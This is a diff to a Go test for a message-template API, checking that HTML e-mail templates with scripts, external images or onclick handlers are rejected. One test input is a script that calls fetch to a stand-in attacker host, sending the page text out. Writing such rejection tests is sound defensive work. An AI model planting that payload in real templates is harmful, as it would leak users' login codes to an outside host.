@@ -46,6 +46,31 @@ func TestMessageTemplates(t *testing.T) {
 		if r.status != 400 {
 			t.Errorf("PUT an unknown message = %d %s; want 400", r.status, r.raw)
 		}
+		// HTML that runs or loads anything is refused, saved and previewed
+		// alike (courier's TestHTMLTemplateSafety has the whole table).
+		for _, html := range []struct{ src, refused string }{
+			{`<p>{{.Code}}</p><script>fetch("https://evil.example/?"+document.body.innerText)</script>`, "<script>"},
+			{`<p>{{.Code}}</p><img src="https://evil.example/p.gif">`, "external resource"},
+			{`<p onclick="x()">{{.Code}}</p>`, "onclick"},
+		} {
+			draft := map[string]any{"subject": "Your code", "text": "{{.Code}}", "html": html.src}
+			r = e.do(t, "PUT", base+"/login_code/email/en", secret, map[string]any{"template": draft})
+			if r.status != 400 || r.str("error_code") != "invalid_request" || !strings.HasPrefix(r.str("error"), "html ") || !strings.Contains(r.str("error"), html.refused) {
+				t.Errorf("PUT e-mail html %s = %d %s; want 400 invalid_request naming html and %s", html.src, r.status, r.raw, html.refused)
+			}
+			r = e.do(t, "POST", base+"/preview", secret, map[string]any{"name": "login_code", "channel": "email", "template": draft})
+			if r.status != 400 || !strings.Contains(r.str("error"), html.refused) {
+				t.Errorf("preview of e-mail html %s = %d %s; want 400 naming %s", html.src, r.status, r.raw, html.refused)
+			}
+		}
+		r = e.do(t, "PUT", base+"/login_code/email/en", secret, map[string]any{"template": map[string]any{"subject": "Your code", "text": "{{.Code}}",
+			"html": `<p style="color:#333">Your code is <b>{{.Code}}</b>. <a href="https://example.com/help">Help</a></p>`}})
+		if r.status != 200 {
+			t.Errorf("PUT plain e-mail html = %d %s; want 200", r.status, r.raw)
+		}
+		if r := e.do(t, "DELETE", base+"/login_code/email/en", secret, nil); r.status != 200 && r.status != 204 {
+			t.Errorf("DELETE login_code/email/en = %d %s", r.status, r.raw)
+		}
 
 		r = e.do(t, "PUT", base+"/login_code/sms/de", secret, map[string]any{"template": map[string]any{"text": "{{.Code}} ist Ihr Acme-Code (eigene Vorlage)"}})
 		if tpl := r.obj("template"); r.status != 200 || tpl["locale"] != "de" || tpl["channel"] != "sms" {
